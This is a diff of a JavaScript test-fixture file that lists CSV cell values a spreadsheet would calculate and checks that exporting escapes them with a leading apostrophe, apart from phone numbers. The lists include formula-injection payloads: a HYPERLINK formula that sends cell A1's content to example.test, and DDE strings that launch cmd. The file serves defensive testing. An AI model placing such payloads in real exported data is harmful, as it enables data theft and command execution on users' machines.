@@ -1,15 +1,14 @@
 import { parse } from 'csv-parse/sync';
 
-/** Texts that a spreadsheet takes for a formula, unless an apostrophe stands in front. */
+/** Texts that a spreadsheet would calculate, unless an apostrophe stands in front. */
 export const FORMULAS = [
 	'+1-415-555-0100',
-	'+351912345678',
 	'+1 (555) 010-0100',
+	'+49 30/1234567',
 	'=HYPERLINK("http://example.test/?x="&A1,"Pay")',
 	"+1+cmd|' /C calc'!A0",
+	'+cmd|x',
 	'-2+3',
-	'-5.00',
-	'-',
 	'@SUM(1)',
 	'\t\t',
 	'\t=1+1',
@@ -19,11 +18,18 @@ export const FORMULAS = [
 	'\0=1+1',
 	'＝1+1',
 	"'=1+1",
-	"''+1",
+	"''+A1",
+];
+
+/** Texts that are a number, also of a phone, or none of which anything could be calculated. */
+export const NUMBERS = [
+	...['+971501234567', '+351 912 345 678', '+1 (234) 567', '+49.30.123', '-5', '-5.00', '+1,5'],
+	...['-', ' +1', "'+1"],
 ];
 
 /** Texts that are none, though some need quotes in the file. */
 const OTHER_TEXTS = [
+	...NUMBERS,
 	"O'Neill",
 	"'Quoted'",
 	'a=b',
@@ -52,13 +58,11 @@ export const rowsOfCsv = (file, options) =>
 	parse(file, { bom: true, record_delimiter: ['\r\n', '\n', '\r'], ...options });
 
 /**
- * @param {unknown} value one of these texts, or of the sandbox, where phone numbers begin with a plus sign
+ * @param {unknown} value
  * @returns {string} the cell that it has to become
  */
 export const cellOf = (value) =>
-	FORMULAS.includes(String(value)) || /^\+\d/.test(String(value))
-		? `'${value}`
-		: String(value ?? '');
+	FORMULAS.includes(String(value)) ? `'${value}` : String(value ?? '');
 
 /**
  * @param {object} contact
